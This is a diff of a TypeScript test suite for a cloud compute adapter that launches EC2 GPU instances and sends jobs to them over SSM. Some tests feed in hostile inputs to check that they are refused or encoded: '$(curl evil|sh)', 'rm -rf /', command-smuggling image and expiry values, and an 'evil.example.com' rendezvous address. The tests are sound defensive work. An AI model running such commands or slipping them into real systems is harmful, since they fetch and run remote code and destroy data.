@@ -1,11 +1,11 @@
 import assert from 'node:assert/strict';
 import { beforeEach, describe, test } from 'node:test';
 import { DescribeInstancesCommand, EC2Client, EC2ServiceException, RunInstancesCommand, TerminateInstancesCommand } from '@aws-sdk/client-ec2';
-import { DescribeInstanceInformationCommand, ListCommandsCommand, SSMClient, SendCommandCommand } from '@aws-sdk/client-ssm';
+import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, ListCommandsCommand, SSMClient, SSMServiceException, SendCommandCommand } from '@aws-sdk/client-ssm';
 import { mockClient } from 'aws-sdk-client-mock';
-import { Ec2SsmCompute, PartialLaunchView, type Ec2SsmComputeProps } from '../../lambdas/adapters/ec2-ssm-compute.js';
-import { instanceScript } from '../../lambdas/core/container-command.js';
-import { LaunchFailed, ValidationError } from '../../lambdas/core/errors.js';
+import { Ec2SsmCompute, PartialLaunchView, clientToken, vcpuQuotaName, type Ec2SsmComputeProps } from '../../lambdas/adapters/ec2-ssm-compute.js';
+import { instanceScript, type DockerRunOptions } from '../../lambdas/core/container-command.js';
+import { LaunchFailed, NoCapacity, ValidationError } from '../../lambdas/core/errors.js';
 import type { Job } from '../../lambdas/core/job.js';
 import type { ContainerSpec } from '../../lambdas/ports/compute.js';
 
@@ -20,6 +20,7 @@ const PROPS: Ec2SsmComputeProps = {
   launchTemplateId: 'lt-0123456789abcdef0',
   subnetIds: ['subnet-a', 'subnet-b'],
   pools: { a10g: { instanceTypes: ['g5.xlarge', 'g5.2xlarge'], memory: '14g' } },
+  now: () => new Date('2030-01-01T00:00:00.000Z'),
 };
 
 function job(overrides: Partial<Job> = {}): Job {
@@ -58,7 +59,10 @@ const BASE_TAGS = [
   { Key: 'flare:pool', Value: 'a10g' },
 ];
 
-function runInput(instanceType: string, subnetId: string, clientToken: string, count = 1, tags = BASE_TAGS) {
+/** Attempt 0, launched at PROPS.now() (00:00): + 600 s agent timeout + 60 min live timeout. */
+const TAGS = [...BASE_TAGS, { Key: 'flare:attempt', Value: '0' }, { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' }];
+
+function runInput(instanceType: string, subnetId: string, clientToken: string, count = 1, tags = TAGS) {
   return {
     LaunchTemplate: { LaunchTemplateId: 'lt-0123456789abcdef0' },
     InstanceType: instanceType,
@@ -92,16 +96,32 @@ beforeEach(() => {
 });
 
 describe('Ec2SsmCompute.launch', () => {
-  test('runs the pool instance type from the launch template in the first subnet, tagged, with the job id as ClientToken', async () => {
+  test('runs the pool instance type from the launch template in the first subnet, tagged with attempt and dead-man deadline, with a ClientToken from job and attempt', async () => {
     ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }, { InstanceId: 'i-2' }] });
 
-    const launched = await new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 2, expiresAt: '2030-01-01T01:00:00.000Z' }));
+    const launched = await new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 2 }));
 
     assert.deepEqual(launched, { instanceIds: ['i-1', 'i-2'] });
     assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, DESCRIBE_JOB_INSTANCES);
     const calls = ec2Mock.commandCalls(RunInstancesCommand);
     assert.equal(calls.length, 1);
-    assert.deepEqual(calls[0].args[0].input, runInput('g5.xlarge', 'subnet-a', 'job-7', 2, [...BASE_TAGS, { Key: 'flare:expires-at', Value: '2030-01-01T01:00:00.000Z' }]));
+    assert.deepEqual(calls[0].args[0].input, runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 2));
+  });
+
+  test('the deadline counts from admission, so a retry later in the same attempt sends the identical request', async () => {
+    ec2Mock.on(RunInstancesCommand).resolves({ ReservationId: 'r-1', Instances: [{ InstanceId: 'i-1' }] });
+    let clock = new Date('2030-01-01T00:07:00.000Z');
+    const compute = new Ec2SsmCompute({ ...PROPS, agentTimeoutSeconds: 900, now: () => clock });
+    const admitted = job({ admittedAt: '2030-01-01T00:05:00.000Z', liveTimeoutMinutes: 30.5 });
+
+    await compute.launch(admitted);
+    clock = new Date('2030-01-01T00:21:00.000Z');
+    await compute.launch(admitted);
+
+    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
+    // 00:05 + 900 s + 30.5 min
+    const tags = [...BASE_TAGS, { Key: 'flare:attempt', Value: '0' }, { Key: 'flare:expires-at', Value: '2030-01-01T00:50:30.000Z' }];
+    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags), runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags)]);
   });
 
   test('a repeated call returns the instances already launched and starts nothing new', async () => {
@@ -124,7 +144,41 @@ describe('Ec2SsmCompute.launch', () => {
     const calls = ec2Mock.commandCalls(RunInstancesCommand);
     assert.equal(calls.length, 2);
     assert.deepEqual(calls[1].args[0].input, calls[0].args[0].input);
-    assert.equal(calls[1].args[0].input.ClientToken, 'job-7');
+    assert.equal(calls[1].args[0].input.ClientToken, 'job-7.0.0');
+  });
+
+  test('a requeued job (next launch attempt) gets fresh ClientTokens and is tagged with its attempt', async () => {
+    ec2Mock.on(RunInstancesCommand).rejectsOnce(ec2Error('InsufficientInstanceCapacity')).resolves({ Instances: [{ InstanceId: 'i-5' }] });
+
+    await new Ec2SsmCompute(PROPS).launch(job({ launchAttempt: 3 }));
+
+    const tags = [...BASE_TAGS, { Key: 'flare:attempt', Value: '3' }, { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' }];
+    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
+    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.3.0', 1, tags), runInput('g5.xlarge', 'subnet-b', 'job-7.3.1', 1, tags)]);
+  });
+
+  test('ClientTokens fit EC2s 64 characters for the longest job ids and stay distinct', () => {
+    const flareId = `j-${'a'.repeat(16)}`;
+    assert.equal(clientToken(flareId, 12, 7), `${flareId}.12.7`);
+    const longest = 'x'.repeat(60);
+    const tokens = [clientToken(longest, 0, 0), clientToken(longest, 10, 0), clientToken(longest, 1, 0), clientToken(longest, 0, 10)];
+    for (const token of tokens) assert.ok(token.length <= 64, token);
+    assert.equal(new Set(tokens).size, tokens.length);
+    assert.equal(clientToken(longest, 10, 0), clientToken(longest, 10, 0));
+  });
+
+  test('gives each instance an encrypted gp3 root volume of the size the job asks for', async () => {
+    ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }] });
+
+    await new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 500 }));
+    await new Ec2SsmCompute({ ...PROPS, rootDeviceName: '/dev/xvda' }).launch(job({ volumeSizeGb: 200 }));
+
+    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
+    assert.deepEqual(inputs[0], {
+      ...runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
+      BlockDeviceMappings: [{ DeviceName: '/dev/sda1', Ebs: { VolumeSize: 500, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true } }],
+    });
+    assert.deepEqual(inputs[1].BlockDeviceMappings, [{ DeviceName: '/dev/xvda', Ebs: { VolumeSize: 200, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true } }]);
   });
 
   for (const code of ['InsufficientInstanceCapacity', 'Unsupported', 'InsufficientFreeAddressesInSubnet', 'InsufficientCapacity']) {
@@ -135,7 +189,7 @@ describe('Ec2SsmCompute.launch', () => {
 
       assert.deepEqual(launched, { instanceIds: ['i-9'] });
       const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-      assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7'), runInput('g5.xlarge', 'subnet-b', 'job-7.1')]);
+      assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.xlarge', 'subnet-b', 'job-7.0.1')]);
     });
   }
 
@@ -150,10 +204,10 @@ describe('Ec2SsmCompute.launch', () => {
 
     assert.deepEqual(launched, { instanceIds: ['i-3'] });
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7'), runInput('g5.xlarge', 'subnet-b', 'job-7.1'), runInput('g5.2xlarge', 'subnet-a', 'job-7.2')]);
+    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'), runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2')]);
   });
 
-  test('throws LaunchFailed naming every attempt when all types and subnets fail', async () => {
+  test('throws NoCapacity (not a job failure) naming every attempt when all types and subnets fail', async () => {
     const last = ec2Error('InsufficientFreeAddressesInSubnet');
     ec2Mock
       .on(RunInstancesCommand)
@@ -163,8 +217,10 @@ describe('Ec2SsmCompute.launch', () => {
       .rejectsOnce(last);
 
     await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => {
-      assert.ok(error instanceof LaunchFailed);
-      assert.equal(error.name, 'LaunchFailed');
+      assert.ok(error instanceof NoCapacity);
+      assert.ok(!(error instanceof LaunchFailed));
+      assert.equal(error.name, 'NoCapacity');
+      assert.equal(error.operatorProblem, false);
       assert.equal(
         error.message,
         'no capacity for pool a10g (g5.xlarge in subnet-a: InsufficientInstanceCapacity; g5.xlarge in subnet-b: Unsupported; g5.2xlarge in subnet-a: InsufficientInstanceCapacity; g5.2xlarge in subnet-b: InsufficientFreeAddressesInSubnet)',
@@ -173,7 +229,39 @@ describe('Ec2SsmCompute.launch', () => {
       return true;
     });
     const tokens = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input.ClientToken);
-    assert.deepEqual(tokens, ['job-7', 'job-7.1', 'job-7.2', 'job-7.3']);
+    assert.deepEqual(tokens, ['job-7.0.0', 'job-7.0.1', 'job-7.0.2', 'job-7.0.3']);
+  });
+
+  test('on VcpuLimitExceeded skips the other subnets of that type, tries the fallback type, and names the quota to raise', async () => {
+    const vcpu = ec2Error('VcpuLimitExceeded');
+    ec2Mock.on(RunInstancesCommand).rejectsOnce(vcpu).rejectsOnce(ec2Error('InsufficientInstanceCapacity')).rejectsOnce(ec2Error('InsufficientInstanceCapacity'));
+
+    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => {
+      assert.ok(error instanceof NoCapacity);
+      assert.equal(error.operatorProblem, true);
+      assert.equal(
+        error.message,
+        'no capacity for pool a10g (g5.xlarge in subnet-a: VcpuLimitExceeded; g5.2xlarge in subnet-a: InsufficientInstanceCapacity; g5.2xlarge in subnet-b: InsufficientInstanceCapacity); ' +
+          'the account\'s vCPU service quota for the g5 instance family must be raised (Service Quotas, Amazon EC2: "Running On-Demand G and VT instances")',
+      );
+      return true;
+    });
+    // The skipped position keeps its token number, so the next type's tokens do not shift.
+    const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
+    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'), runInput('g5.2xlarge', 'subnet-b', 'job-7.0.3')]);
+  });
+
+  test('a vCPU limit on one type and capacity on the fallback still launches', async () => {
+    ec2Mock.on(RunInstancesCommand).rejectsOnce(ec2Error('VcpuLimitExceeded')).resolves({ Instances: [{ InstanceId: 'i-4' }] });
+    assert.deepEqual(await new Ec2SsmCompute(PROPS).launch(job()), { instanceIds: ['i-4'] });
+  });
+
+  test('names the vCPU quota of each instance family', () => {
+    assert.equal(vcpuQuotaName('g4dn.xlarge'), 'Running On-Demand G and VT instances');
+    assert.equal(vcpuQuotaName('p4d.24xlarge'), 'Running On-Demand P instances');
+    assert.equal(vcpuQuotaName('trn1.32xlarge'), 'Running On-Demand Trn instances');
+    assert.equal(vcpuQuotaName('inf2.xlarge'), 'Running On-Demand Inf instances');
+    assert.equal(vcpuQuotaName('m5.large'), 'Running On-Demand Standard (A, C, D, H, I, M, R, T, Z) instances');
   });
 
   test('throws other EC2 errors as they are, without trying further', async () => {
@@ -184,9 +272,12 @@ describe('Ec2SsmCompute.launch', () => {
     assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 1);
   });
 
-  test('refuses a pool it has no EC2 configuration for, and more nodes than SSM can command', async () => {
+  test('refuses a pool it has no EC2 configuration for, more nodes than SSM can command, and nonsense sizes', async () => {
     await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ pool: 'h100' })), LaunchFailed);
     await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ nodeCount: 51 })), LaunchFailed);
+    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 0 })), LaunchFailed);
+    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ volumeSizeGb: 1.5 })), LaunchFailed);
+    await assert.rejects(new Ec2SsmCompute(PROPS).launch(job({ launchAttempt: -1 })), LaunchFailed);
     assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 0);
   });
 
@@ -237,75 +328,159 @@ describe('Ec2SsmCompute.isReady', () => {
 });
 
 describe('Ec2SsmCompute.start', () => {
-  const running = job({ instanceIds: ['i-1', 'i-2'], nodeCount: 2 });
-  const LIST_INPUT = { InstanceId: 'i-1', Filters: [{ key: 'DocumentName', value: 'AWS-RunShellScript' }], MaxResults: 50, NextToken: undefined };
+  const single = job({ instanceIds: ['i-1'] });
+  const multi = job({ instanceIds: ['i-1', 'i-2', 'i-3'], nodeCount: 3 });
+  const listInput = (InstanceId: string, document = 'AWS-RunShellScript') => ({ InstanceId, Filters: [{ key: 'DocumentName', value: document }], MaxResults: 50, NextToken: undefined });
+  const SCRIPT_OPTIONS: DockerRunOptions = { memory: '14g', scratchDir: '/var/lib/flare/scratch' };
+  const torchrun = (rank: number) => ({ NODE_RANK: String(rank), WORLD_SIZE: '3', MASTER_ADDR: '10.0.1.17', MASTER_PORT: '29500' });
+  const sendInput = (instanceId: string, script: string) => ({
+    DocumentName: 'AWS-RunShellScript',
+    InstanceIds: [instanceId],
+    Comment: 'flare:job=job-7',
+    Parameters: { commands: [script], executionTimeout: ['172800'] },
+  });
 
-  test('sends the instance script to every instance with the job in the comment and the longest execution timeout', async () => {
+  function masterDescribed() {
+    ec2Mock.on(DescribeInstancesCommand, { InstanceIds: ['i-1'] }).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1', PrivateIpAddress: '10.0.1.17' }] }] });
+  }
+
+  test('single node: sends the instance script with the job in the comment and the longest execution timeout', async () => {
     ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-1' } });
 
-    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).start(running, spec());
+    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).start(single, spec());
 
-    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, LIST_INPUT);
+    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1'));
     const sends = ssmMock.commandCalls(SendCommandCommand);
     assert.equal(sends.length, 1);
     const expectedScript = instanceScript(spec(), {
-      memory: '14g',
-      scratchDir: '/var/lib/flare/scratch',
+      ...SCRIPT_OPTIONS,
       logDriver: 'awslogs',
       logOptions: { 'awslogs-group': '/flare/jobs', 'awslogs-stream': 'job-7' },
     });
     assert.deepEqual(sends[0].args[0].input, {
-      DocumentName: 'AWS-RunShellScript',
-      InstanceIds: ['i-1', 'i-2'],
-      Comment: 'flare:job=job-7',
-      Parameters: { commands: [expectedScript], executionTimeout: ['172800'] },
+      ...sendInput('i-1', expectedScript),
       CloudWatchOutputConfig: { CloudWatchLogGroupName: '/flare/jobs', CloudWatchOutputEnabled: true },
     });
     assert.ok(!expectedScript.includes('$(id)'), 'job text travels encoded');
+    assert.ok(expectedScript.includes('echo 2030-01-01T01:00:00.000Z > /var/lib/flare/expires-at.job-7.tmp'), 'the instance learns the job expiry');
+    assert.equal(ec2Mock.commandCalls(DescribeInstancesCommand).length, 0, 'no rendezvous address for one node');
   });
 
   test('without a log group sends no CloudWatch config and leaves the log driver to docker', async () => {
     ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
     ssmMock.on(SendCommandCommand).resolves({});
 
-    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunJob', dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' } }).start(running, spec());
+    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunJob', dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' } }).start(single, spec());
 
-    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, { ...LIST_INPUT, Filters: [{ key: 'DocumentName', value: 'Flare-RunJob' }] });
+    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1', 'Flare-RunJob'));
     assert.deepEqual(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input, {
+      ...sendInput('i-1', instanceScript(spec(), { memory: '14g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' })),
       DocumentName: 'Flare-RunJob',
-      InstanceIds: ['i-1', 'i-2'],
-      Comment: 'flare:job=job-7',
-      // The pool's memory wins over the deployment-wide one.
-      Parameters: { commands: [instanceScript(spec(), { memory: '14g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' })], executionTimeout: ['172800'] },
     });
   });
 
-  test('a repeated call finds its command by comment and sends nothing', async () => {
+  test('multi-node: one command per instance, each with its torchrun rank and the first instance as rendezvous, overriding the job env', async () => {
+    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssmMock.on(SendCommandCommand).resolves({});
+    masterDescribed();
+    const jobSpec = spec({ env: { EPOCHS: '3', NODE_RANK: '9', MASTER_ADDR: 'evil.example.com' } });
+
+    await new Ec2SsmCompute(PROPS).start(multi, jobSpec);
+
+    assert.deepEqual(
+      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
+      [listInput('i-1'), listInput('i-2'), listInput('i-3')],
+    );
+    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input), [{ InstanceIds: ['i-1'], NextToken: undefined }]);
+    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
+    assert.deepEqual(
+      sends,
+      ['i-1', 'i-2', 'i-3'].map((id, rank) => sendInput(id, instanceScript({ ...jobSpec, env: { EPOCHS: '3', ...torchrun(rank) } }, SCRIPT_OPTIONS))),
+    );
+  });
+
+  test('multi-node with another rendezvous port', async () => {
+    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssmMock.on(SendCommandCommand).resolves({});
+    masterDescribed();
+
+    await new Ec2SsmCompute({ ...PROPS, masterPort: 23456 }).start(multi, spec());
+
+    const last = ssmMock.commandCalls(SendCommandCommand)[2].args[0].input;
+    assert.deepEqual(last, sendInput('i-3', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(2), MASTER_PORT: '23456' } }), SCRIPT_OPTIONS)));
+  });
+
+  test('a repeated multi-node call resends only to the instances that have no command yet', async () => {
+    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssmMock.on(ListCommandsCommand, { InstanceId: 'i-1' }).resolves({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7' }] });
+    ssmMock.on(ListCommandsCommand, { InstanceId: 'i-3' }).resolves({ Commands: [{ CommandId: 'c-3', Comment: 'flare:job=job-7' }] });
+    ssmMock.on(SendCommandCommand).resolves({});
+    masterDescribed();
+
+    await new Ec2SsmCompute(PROPS).start(multi, spec());
+
+    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
+    assert.deepEqual(sends, [sendInput('i-2', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(1) } }), SCRIPT_OPTIONS))]);
+  });
+
+  test('a repeated call finds its command by comment across pages and sends nothing', async () => {
     ssmMock
       .on(ListCommandsCommand)
       .resolvesOnce({ Commands: [{ CommandId: 'c-0', Comment: 'flare:job=job-70' }], NextToken: 'next' })
       .resolvesOnce({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7', Status: 'InProgress' }] });
 
-    await new Ec2SsmCompute(PROPS).start(running, spec());
+    await new Ec2SsmCompute(PROPS).start(single, spec());
 
     assert.deepEqual(
-      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input.NextToken),
-      [undefined, 'next'],
+      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
+      [listInput('i-1'), { ...listInput('i-1'), NextToken: 'next' }],
     );
     assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
   });
 
-  test('refuses a spec for another job and a job without instances', async () => {
-    await assert.rejects(new Ec2SsmCompute(PROPS).start(running, spec({ jobId: 'job-8' })), ValidationError);
-    await assert.rejects(new Ec2SsmCompute(PROPS).start(job(), spec()), LaunchFailed);
+  test('a first instance without a private address fails the start before anything is sent', async () => {
+    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1' }] }] });
+
+    await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec()), LaunchFailed);
     assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
   });
 
-  test('refuses hostile input before anything is sent', async () => {
-    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
-    await assert.rejects(new Ec2SsmCompute(PROPS).start(running, spec({ image: '--privileged' })), ValidationError);
+  test('refuses a spec for another job, a job without instances, and instances that do not match its nodes', async () => {
+    await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec({ jobId: 'job-8' })), ValidationError);
+    await assert.rejects(new Ec2SsmCompute(PROPS).start(job(), spec()), LaunchFailed);
+    await assert.rejects(new Ec2SsmCompute(PROPS).start(job({ instanceIds: ['i-1', 'i-2'], nodeCount: 3 }), spec()), LaunchFailed);
     assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
+  });
+
+  for (const [what, hostile] of [
+    ['a flag as image', { image: '--privileged' }],
+    ['an image with a shell command', { image: `alpine;id@sha256:${'a'.repeat(64)}` }],
+    ['a reserved env name', { env: { NVIDIA_VISIBLE_DEVICES: 'all' } }],
+    ['a shell command as expiry', { expiresAt: '2030-01-01T01:00:00.000Z; reboot' }],
+    ['a newline in the expiry', { expiresAt: '2030-01-01T01:00:00.000Z\nreboot' }],
+  ] as const) {
+    test(`refuses ${what} on every node before anything is sent`, async () => {
+      ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+      masterDescribed();
+      await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec(hostile)), ValidationError);
+      await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec(hostile)), ValidationError);
+      assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
+    });
+  }
+
+  test('hostile command and env text reaches no node in the clear', async () => {
+    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
+    ssmMock.on(SendCommandCommand).resolves({});
+    masterDescribed();
+
+    await new Ec2SsmCompute(PROPS).start(multi, spec({ command: ['sh', '-c', '$(curl evil|sh)', '--privileged'], env: { X: '`reboot`\nrm -rf /' } }));
+
+    for (const call of ssmMock.commandCalls(SendCommandCommand)) {
+      const [script] = call.args[0].input.Parameters!.commands!;
+      for (const text of ['curl evil', 'reboot', 'rm -rf', 'privileged']) assert.ok(!script.includes(text), `${text} in script`);
+    }
   });
 });
 
@@ -363,6 +538,144 @@ describe('Ec2SsmCompute.stop', () => {
   });
 });
 
+describe('Ec2SsmCompute.terminate', () => {
+  test('terminates in batches of 100, without duplicates', async () => {
+    ec2Mock.on(TerminateInstancesCommand).resolves({});
+    const ids = Array.from({ length: 205 }, (_, i) => `i-${String(i).padStart(8, '0')}`);
+
+    await new Ec2SsmCompute(PROPS).terminate([...ids, ids[0]]);
+
+    const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
+    assert.deepEqual(inputs, [{ InstanceIds: ids.slice(0, 100) }, { InstanceIds: ids.slice(100, 200) }, { InstanceIds: ids.slice(200) }]);
+  });
+
+  test('ignores ids EC2 no longer knows, one batch at a time, and sends nothing for none', async () => {
+    ec2Mock
+      .on(TerminateInstancesCommand)
+      .rejectsOnce(ec2Error('InvalidInstanceID.NotFound'))
+      .rejectsOnce(ec2Error('InvalidInstanceID.NotFound'))
+      .resolves({});
+
+    await new Ec2SsmCompute(PROPS).terminate([]);
+    await new Ec2SsmCompute(PROPS).terminate(['i-gone', 'i-2']);
+
+    const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
+    assert.deepEqual(inputs, [{ InstanceIds: ['i-gone', 'i-2'] }, { InstanceIds: ['i-gone'] }, { InstanceIds: ['i-2'] }]);
+  });
+
+  test('throws any other error', async () => {
+    const denied = ec2Error('UnauthorizedOperation');
+    ec2Mock.on(TerminateInstancesCommand).rejects(denied);
+    await assert.rejects(new Ec2SsmCompute(PROPS).terminate(['i-1']), (error: unknown) => error === denied);
+  });
+});
+
+describe('Ec2SsmCompute.listManaged', () => {
+  test('lists every live instance marked managed-by=flare across pages, with its job and launch time', async () => {
+    ec2Mock
+      .on(DescribeInstancesCommand)
+      .resolvesOnce({
+        Reservations: [
+          {
+            Instances: [
+              { InstanceId: 'i-1', State: { Name: 'running' }, LaunchTime: new Date('2030-01-01T00:00:00.000Z'), Tags: [{ Key: 'managed-by', Value: 'flare' }, { Key: 'flare:job', Value: 'j-abc' }] },
+              { InstanceId: 'i-2', State: { Name: 'pending' }, Tags: [{ Key: 'managed-by', Value: 'flare' }] },
+            ],
+          },
+        ],
+        NextToken: 'page-2',
+      })
+      .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-3', State: { Name: 'stopped' }, LaunchTime: new Date('2030-01-02T00:00:00.000Z'), Tags: [{ Key: 'flare:job', Value: 'j-def' }] }] }] });
+
+    const managed = await new Ec2SsmCompute(PROPS).listManaged();
+
+    assert.deepEqual(managed, [
+      { instanceId: 'i-1', jobId: 'j-abc', state: 'running', launchedAt: '2030-01-01T00:00:00.000Z' },
+      { instanceId: 'i-2', state: 'pending' },
+      { instanceId: 'i-3', jobId: 'j-def', state: 'stopped', launchedAt: '2030-01-02T00:00:00.000Z' },
+    ]);
+    const filters = [
+      { Name: 'tag:managed-by', Values: ['flare'] },
+      { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
+    ];
+    assert.deepEqual(
+      ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input),
+      [
+        { Filters: filters, NextToken: undefined },
+        { Filters: filters, NextToken: 'page-2' },
+      ],
+    );
+  });
+
+  test('is empty when Flare runs nothing', async () => {
+    assert.deepEqual(await new Ec2SsmCompute(PROPS).listManaged(), []);
+  });
+});
+
+describe('Ec2SsmCompute event lookups', () => {
+  function invocationMissing(): SSMServiceException {
+    return new SSMServiceException({ name: 'InvocationDoesNotExist', $fault: 'client', $metadata: { httpStatusCode: 400 }, message: 'mocked' });
+  }
+
+  test('commandOutcome reads Flare command invocations back to their job and exit code', async () => {
+    ssmMock.on(GetCommandInvocationCommand).resolves({ CommandId: 'c-1', InstanceId: 'i-1', Comment: 'flare:job=j-abc', Status: 'Failed', StatusDetails: 'Failed', ResponseCode: 42 });
+
+    const outcome = await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1');
+
+    assert.deepEqual(outcome, { jobId: 'j-abc', status: 'Failed', statusDetails: 'Failed', exitCode: 42 });
+    assert.deepEqual(ssmMock.commandCalls(GetCommandInvocationCommand)[0].args[0].input, { CommandId: 'c-1', InstanceId: 'i-1' });
+  });
+
+  test('commandOutcome has no exit code when the script never ran (-1), and exit 0 on success', async () => {
+    ssmMock
+      .on(GetCommandInvocationCommand)
+      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', StatusDetails: 'Undeliverable', ResponseCode: -1 })
+      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Success', StatusDetails: 'Success', ResponseCode: 0 });
+    const compute = new Ec2SsmCompute(PROPS);
+
+    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', statusDetails: 'Undeliverable' });
+    assert.deepEqual(await compute.commandOutcome('c-2', 'i-1'), { jobId: 'j-abc', status: 'Success', statusDetails: 'Success', exitCode: 0 });
+  });
+
+  for (const Comment of [undefined, '', 'patching run', 'flare:job=', 'flare:job=J-ABC', 'flare:job=j-abc; rm', 'xflare:job=j-abc']) {
+    test(`commandOutcome ignores a command that is not Flare's (comment ${JSON.stringify(Comment)})`, async () => {
+      ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
+      assert.equal(await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1'), undefined);
+    });
+  }
+
+  test('commandOutcome throws what SSM throws, so the event is retried', async () => {
+    const missing = invocationMissing();
+    ssmMock.on(GetCommandInvocationCommand).rejects(missing);
+    await assert.rejects(new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1'), (error: unknown) => error === missing);
+  });
+
+  test('jobOfInstance names the job of a Flare instance', async () => {
+    ec2Mock.on(DescribeInstancesCommand).resolves({
+      Reservations: [{ Instances: [{ InstanceId: 'i-1', State: { Name: 'terminated' }, Tags: [{ Key: 'managed-by', Value: 'flare' }, { Key: 'flare:job', Value: 'j-abc' }] }] }],
+    });
